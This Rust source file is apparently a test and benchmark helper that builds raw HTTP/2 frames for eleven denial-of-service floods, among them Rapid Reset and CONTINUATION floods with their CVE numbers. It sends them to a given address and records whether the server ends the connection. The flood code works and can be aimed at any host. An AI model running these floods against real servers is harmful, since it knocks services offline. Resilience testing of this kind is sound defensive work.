//! Floods of HTTP/2: frames that cost their sender next to nothing, written as they are on a connection of their own (RFC 9113). Benchmark
//! and tests compile this one file. It measures nothing.

use std::io::{self, Read as _, Write as _};
use std::net::{Shutdown, SocketAddr, TcpStream};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread;
use std::time::Duration;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// What the RFC calls by another name: a piece of a body.
const BODY: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// `:scheme` http and `:authority` a, by the static table of HPACK (RFC 7541, appendix A).
const SOMEWHERE: &[u8] = &[0x86, 0x01, 1, b'a'];
/// `:method` GET and POST.
const GET: u8 = 0x82;
const POST: u8 = 0x83;
/// A field without a name in any table: x with sixteen letters.
const FIELD: &[u8] = b"\x00\x01x\x10aaaaaaaaaaaaaaaa";

/// How many of them are written at once.
const BATCH: u64 = 64;

/// The most of one frame, in bytes.
const FRAME_LEN_MAX: usize = 16 * 1024;

/// What is sent without end.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Flood {
    /// Requests, each taken back at once (CVE-2023-44487).
    RapidReset,
    /// A head that never ends (CVE-2024-27316).
    Continuation,
    /// The same in frames without a byte.
    EmptyContinuation,
    /// A body in frames without a byte (CVE-2019-9518).
    EmptyBody,
    /// A body in frames of one byte.
    TinyBody,
    /// Settings, each of which has to be acknowledged (CVE-2019-9515).
    Settings,
    /// Pings, each of which has to be answered (CVE-2019-9512).
    Ping,
    /// A window that opens byte by byte.
    WindowUpdate,
    /// An order of streams that changes all the time (CVE-2019-9513).
    Priority,
    /// Streams that are never opened, which the server has to reset.
    Unopened,
    /// Frames of a type that nobody knows.
    Unknown,
}

impl Flood {
    /// All of them.
    pub(crate) const ALL: [Self; 11] = [
        Self::RapidReset,
        Self::Continuation,
        Self::EmptyContinuation,
        Self::EmptyBody,
        Self::TinyBody,
        Self::Settings,
        Self::Ping,
        Self::WindowUpdate,
        Self::Priority,
        Self::Unopened,
        Self::Unknown,
    ];

    /// What comes before the flood.
    fn beginning(self) -> Vec<u8> {
        let mut bytes = PREFACE.to_vec();
        push(&mut bytes, SETTINGS, 0, 0, &[]);
        match self {
            Self::Continuation | Self::EmptyContinuation => {
                push(&mut bytes, HEADERS, END_STREAM, 1, &head(GET, "/healthz"));
            }
            Self::EmptyBody | Self::TinyBody => {
                let json = [
                    &head(POST, "/api/v1/transfers"),
                    // `content-type`, by the static table.
                    &[0x0f, 16, 16][..],
                    b"application/json",
                ];
                push(&mut bytes, HEADERS, END_HEADERS, 1, &json.concat());
            }
            Self::Unopened => {
                let flags = END_HEADERS | END_STREAM;
                push(&mut bytes, HEADERS, flags, 1, &head(GET, "/healthz"));
            }
            _ => {}
        }
        bytes
    }

    /// One step of the flood, the `number`th.
    fn step(self, bytes: &mut Vec<u8>, number: u64) {
        match self {
            Self::RapidReset => {
                // After 2^30 of them there are no streams left.
                let stream = u32::try_from(number * 2 + 1).unwrap_or(u32::MAX >> 1);
                let flags = END_HEADERS | END_STREAM;
                push(bytes, HEADERS, flags, stream, &head(GET, "/api/v1/config"));
                push(bytes, RST_STREAM, 0, stream, &8_u32.to_be_bytes());
            }
            Self::Continuation => push(bytes, CONTINUATION, 0, 1, &FIELD.repeat(100)),
            Self::EmptyContinuation => push(bytes, CONTINUATION, 0, 1, &[]),
            Self::EmptyBody => push(bytes, BODY, 0, 1, &[]),
            Self::TinyBody => push(bytes, BODY, 0, 1, b" "),
            // The size of a window: 65 535.
            Self::Settings => push(bytes, SETTINGS, 0, 0, &[0, 4, 0, 0, 0xff, 0xff]),
            Self::Ping => push(bytes, PING, 0, 0, &number.to_be_bytes()),
            Self::WindowUpdate => push(bytes, WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()),
            Self::Priority => push(bytes, PRIORITY, 0, 3, &[0, 0, 0, 0, 16]),
            Self::Unopened => push(bytes, RST_STREAM, 0, 1, &8_u32.to_be_bytes()),
            Self::Unknown => push(bytes, 0xfa, 0, 0, b"aaaaaaaa"),
        }
    }

    /// Sends so many steps to `address`, or as many as the server takes, at most `patience` long for each piece of them.
    pub(crate) fn run(
        self,
        address: SocketAddr,
        steps_max: u64,
        patience: Duration,
    ) -> io::Result<Outcome> {
        let mut stream = TcpStream::connect(address)?;
        stream.set_write_timeout(Some(patience))?;
        let over = Arc::new(AtomicBool::new(false));
        let reading = {
            let (stream, over) = (stream.try_clone()?, Arc::clone(&over));
            thread::spawn(move || {
                let told = listen(stream);
                over.store(true, Ordering::Relaxed);
                told
            })
        };
        let mut sent = 0;
        let mut bytes = self.beginning();
        while sent < steps_max && !over.load(Ordering::Relaxed) {
            let batch = sent..steps_max.min(sent + BATCH);
            for number in batch.clone() {
                self.step(&mut bytes, number);
            }
            if stream.write_all(&bytes).is_err() {
                break;
            }
            sent = batch.end;
            bytes.clear();
        }
        let is_whole = sent == steps_max && !over.load(Ordering::Relaxed);
        // After it, nothing more comes, and whoever listens hears the end.
        let _ = stream.shutdown(Shutdown::Write);
        let goaway = reading.join().unwrap_or(None);
        Ok(Outcome {
            sent,
            is_whole,
            goaway,
        })
    }
}

/// What became of one flood.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) struct Outcome {
    /// How many steps were written.
    pub(crate) sent: u64,
    /// Whether the server still listened after all of them.
    pub(crate) is_whole: bool,
    /// Why the server ended the connection, if it said so (RFC 9113, section 7).
    pub(crate) goaway: Option<u32>,
}

/// A head with nothing but what every request has.
fn head(method: u8, path: &str) -> Vec<u8> {
    let len = u8::try_from(path.len()).unwrap_or(127);
    [&[method], SOMEWHERE, &[0x04, len], path.as_bytes()].concat()
}

fn push(bytes: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let len = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    bytes.extend_from_slice(&len[1..]);
    bytes.extend_from_slice(&[kind, flags]);
    bytes.extend_from_slice(&stream.to_be_bytes());
    bytes.extend_from_slice(payload);
}

/// Reads all that the server says until it ends the connection, and why it does.
fn listen(mut stream: TcpStream) -> Option<u32> {
    let mut told = None;
    let mut head = [0; 9];
    let mut payload = vec![0; FRAME_LEN_MAX];
    while stream.read_exact(&mut head).is_ok() {
        let [a, b, c, kind, ..] = head;
        let len = u32::from_be_bytes([0, a, b, c]);
        let payload = payload.get_mut(..usize::try_from(len).ok()?)?;
        if stream.read_exact(payload).is_err() {
            break;
        }
        if kind == GOAWAY {
            let code = payload.get(4..8).and_then(|code| code.try_into().ok());
            let code = code.map(u32::from_be_bytes).filter(|&code| code != 0);
            told = told.or(code);
        }
    }
    told
}
